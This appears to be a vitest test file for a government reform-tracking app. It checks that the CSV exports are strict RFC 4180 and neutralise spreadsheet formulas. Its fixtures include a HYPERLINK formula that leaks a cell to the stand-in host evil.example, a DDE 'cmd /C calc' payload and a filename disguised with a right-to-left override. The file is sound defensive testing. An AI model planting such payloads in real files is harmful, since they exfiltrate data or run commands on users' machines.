import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as milestonesApi } from "@/app/api/v1/milestones/route";
import { GET as outcomesApi } from "@/app/api/v1/outcomes/route";
import { GET as pillarsApi } from "@/app/api/v1/pillars/route";
import { GET as recommendationsApi } from "@/app/api/v1/recommendations/route";
import { loadReformData } from "@/lib/seed/load-reform-data.server";
import { addMilestone } from "@/lib/staff/milestone-additions.server";
import { exportMilestonesCsv } from "@/lib/staff/milestone-csv.server";
import { recordMilestoneUpdate } from "@/lib/staff/milestone-updates.server";
import { reclassifyRecommendation } from "@/lib/staff/reclassification.server";
import { createTestDatabase, type TestDatabase } from "@/tests/support/database";
import { createUser } from "@/tests/support/factories";
import { python, readByPython } from "@/tests/support/python-csv";

// Every CSV the app writes (the four open-data downloads and the staff export), over the real reform data (whose
// texts run to several paragraphs) and staff text written to trip spreadsheets up: each is UTF-8 with a byte order
// mark, RFC 4180 read back by a strict parser with one record per row, and holds the JSON's values, with an
// apostrophe in front of any text a spreadsheet would run as a formula (lib/csv.ts).

const FORMULA_RATIONALE = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the full response")';
const COMMENTARY = '@SUM(1+1)\r\nSecond paragraph, with "quotes", commas and £3,000 – ’curly’.\n\nThird';
const NEW_TITLE = '+cmd|" /C calc"!A0';
const NEW_ACTIVITY = "-2+3 activity";
// Text stored before free text refused invisible direction controls (written straight to the database).
const OLD_TITLE = "Supplier report \u202Egnp.exe";

let database: TestDatabase;
let editor: number;

beforeAll(async () => {
  database = await createTestDatabase();
  await loadReformData(database.prisma);
  editor = (await createUser(database.prisma, { email: "admin@example.gov.uk", role: "admin" })).id;
  const cr01 = await database.prisma.recommendation.findUniqueOrThrow({ where: { code: "CR-01" } });
  const saves = [
    await reclassifyRecommendation(editor, {
      code: "CR-01",
      version: cr01.version,
      responseClass: cr01.responseClass,
      rationale: FORMULA_RATIONALE,
      reason: "Quoting the response",
    }),
    await recordMilestoneUpdate(editor, {
      code: "M-02",
      version: 1,
      status: "on_track",
      forecastDate: "",
      actualDate: "",
      commentary: COMMENTARY,
      evidence: [
        { title: "=1+1", url: "https://example.gov.uk/a" },
        { title: "Annual report", url: "https://example.gov.uk/b" },
      ],
      reason: "",
    }),
    await addMilestone(editor, {
      group: "laying_the_groundwork",
      activity: NEW_ACTIVITY,
      title: NEW_TITLE,
      dueDate: "2026-03-31",
      pillars: [1],
      outcomes: [1],
      recommendations: ["CR-01"],
      reason: "New work announced in the delivery plan",
    }),
  ];
  expect(saves.map((s) => s.ok)).toEqual([true, true, true]);
  await database.prisma.milestone.update({ where: { code: "M-03" }, data: { title: OLD_TITLE } });
});

afterAll(async () => {
  await database.close();
});

/** RFC 4180 by a strict parser: quotes only where they belong, every record as wide as the header. */
function strictlyParsed(text: string): string[][] {
  expect(text.charCodeAt(0), "a byte order mark first").toBe(0xfeff);
  // Outside quoted cells, a line ends only with CRLF, and the file ends with one.
  const outsideQuotes = text.replace(/"(?:[^"]|"")*"/g, "");
  expect(outsideQuotes).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
  expect(text.endsWith("\r\n")).toBe(true);
  return parse(text, {
    bom: true,
    relax_quotes: false,
    relax_column_count: false,
    skip_empty_lines: false,
    // A line break of any kind outside quotes ends a record, as it does for Python and for spreadsheets.
    record_delimiter: ["\r\n", "\n", "\r"],
  }) as string[][];
}

/** What a JSON value becomes in a CSV cell, by the rule docs/open-data-api.md states. */
function expectedCell(value: unknown): string {
  if (value === null || value === undefined) return "";
  if (typeof value === "number" || typeof value === "boolean") return String(value);
  const text = Array.isArray(value) ? value.join("; ") : String(value);
  return /^'*[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

async function get(handler: (request: Request) => Promise<Response>, path: string) {
  const response = await handler(new Request(`http://localhost${path}`));
  expect(response.status, path).toBe(200);
  return response;
}

/** The body as written, byte order mark included (Response.text() drops it, as the Encoding Standard says). */
async function csvText(response: Response): Promise<string> {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
}

const countsAsCells = (counts: Record<string, number>) => Object.entries(counts).map(([k, v]) => `${k}=${v}`);

const ENDPOINTS: ReadonlyArray<{
  path: string;
  handler: (request: Request) => Promise<Response>;
  rows: number;
  flatten: (item: Record<string, unknown>) => Record<string, unknown>;
}> = [
  {
    path: "/api/v1/recommendations",
    handler: recommendationsApi,
    rows: 113,
    flatten: (item: Record<string, unknown>) => item,
  },
  { path: "/api/v1/milestones", handler: milestonesApi, rows: 38, flatten: (item: Record<string, unknown>) => item },
  {
    path: "/api/v1/pillars",
    handler: pillarsApi,
    rows: 6,
    flatten: (item: Record<string, unknown>) => ({
      ...item,
      recommendationsByResponseClass: countsAsCells(item.recommendationsByResponseClass as Record<string, number>),
      milestonesByStatus: countsAsCells(item.milestonesByStatus as Record<string, number>),
    }),
  },
  {
    path: "/api/v1/outcomes",
    handler: outcomesApi,
    rows: 6,
    flatten: (item: Record<string, unknown>) => ({
      ...item,
      recommendationsByResponseClass: countsAsCells(item.recommendationsByResponseClass as Record<string, number>),
      milestonesByStatus: countsAsCells(item.milestonesByStatus as Record<string, number>),
    }),
  },
];

describe("the open-data CSV downloads", () => {
  for (const { path, handler, rows, flatten } of ENDPOINTS) {
    it(`${path}?format=csv: one strict RFC 4180 record per row, the JSON's values, formulas neutralised`, async () => {
      const response = await get(handler, `${path}?format=csv`);
      expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      const text = await csvText(response);
      expect([...Buffer.from(text, "utf8").subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const [header, ...records] = strictlyParsed(text);
      expect(records).toHaveLength(rows);

      const paged = path === "/api/v1/recommendations" || path === "/api/v1/milestones";
      const json = (await (await get(handler, paged ? `${path}?pageSize=500` : path)).json()) as {
        items: Array<Record<string, unknown>>;
      };
      expect(json.items).toHaveLength(rows);
      const expected = json.items.map((item) => header!.map((field) => expectedCell(flatten(item)[field])));
      expect(records).toEqual(expected);
      if (python) expect(readByPython(text)).toEqual([header, ...records]);
    });
  }

  it("puts an apostrophe before text a spreadsheet would run, and leaves the JSON as written", async () => {
    const recommendations = strictlyParsed(
      await csvText(await get(recommendationsApi, "/api/v1/recommendations?format=csv")),
    );
    const column = recommendations[0]!.indexOf("responseRationale");
    expect(recommendations.find((r) => r[0] === "CR-01")![column]).toBe(`'${FORMULA_RATIONALE}`);
    const json = await (await get(recommendationsApi, "/api/v1/recommendations?pageSize=500")).json();
    expect(json.items.find((r: { code: string }) => r.code === "CR-01").responseRationale).toBe(FORMULA_RATIONALE);

    const milestones = strictlyParsed(
      await csvText(await get(milestonesApi, "/api/v1/milestones?format=csv&sort=code")),
    );
    const added = milestones.find((r) => r.includes(`'${NEW_TITLE}`));
    expect(added, "the added milestone's title, protected").toBeDefined();
    expect(added).toContain(`'${NEW_ACTIVITY}`);
    // Older text with an invisible direction control shows it replaced, as the JSON and the pages do.
    expect(milestones.find((r) => r[0] === "M-03")).toContain("Supplier report \uFFFDgnp.exe");
    expect(JSON.stringify(milestones)).not.toMatch(/[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/);
  });

  it("quote multi-paragraph texts, so the 113 recommendations are 113 records for every reader", async () => {
    const text = await csvText(await get(recommendationsApi, "/api/v1/recommendations?format=csv"));
    const records = strictlyParsed(text);
    const multiParagraph = records.filter((r) => r.some((cell) => cell.includes("\n")));
    expect(multiParagraph.length).toBeGreaterThan(10);
    if (python) expect(readByPython(text)).toHaveLength(114);
  });
});

describe("the staff export", () => {
  it("is the same kind of file: byte order mark, strict RFC 4180, one record per milestone, formulas neutralised", async () => {
    const text = await exportMilestonesCsv(editor);
    const [header, ...records] = strictlyParsed(text);
    expect(records).toHaveLength(38);
    const cell = (code: string, column: string) => records.find((r) => r[0] === code)![header!.indexOf(column)];
    expect(cell("M-02", "commentary")).toBe(`'${COMMENTARY}`);
    // One link per line inside the cell: a bare line feed, quoted.
    expect(cell("M-02", "evidence")).toBe("'=1+1|https://example.gov.uk/a\nAnnual report|https://example.gov.uk/b");
    expect(cell("M-03", "title")).toBe("Supplier report \uFFFDgnp.exe");
    expect(records.find((r) => r.includes(`'${NEW_TITLE}`))).toBeDefined();
    if (python) expect(readByPython(text)).toEqual([header, ...records]);
  });
});
